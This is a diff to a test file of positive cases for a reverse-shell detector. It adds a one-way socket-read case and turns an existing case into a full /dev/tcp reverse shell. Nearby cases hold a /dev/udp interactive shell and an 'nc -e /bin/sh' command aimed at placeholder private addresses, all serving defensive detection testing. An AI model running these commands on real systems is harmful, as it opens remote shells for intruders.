@@ -143,8 +143,14 @@ POSITIVE = [
     ),
     (
         "exec 5<>/dev/tcp",
-        ["sh", "-c", "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5"],
+        ["sh", "-c", "exec 5<>/dev/tcp/10.0.0.1/80; sh <&5 >&5 2>&5"],
         {"shell-dev-tcp-redirect"},
+    ),
+    # reading a socket to stdout feeds no shell: recorded low, never killed
+    (
+        "exec 5<>/dev/tcp; cat <&5",
+        ["sh", "-c", "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5"],
+        {"shell-dev-tcp-oneway"},
     ),
     ("/dev/udp", ["bash", "-c", "sh -i > /dev/udp/10.0.0.1/53 0<&1"], {"shell-dev-tcp-redirect"}),
     ("nc -e", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], {"shell-netcat-exec"}),
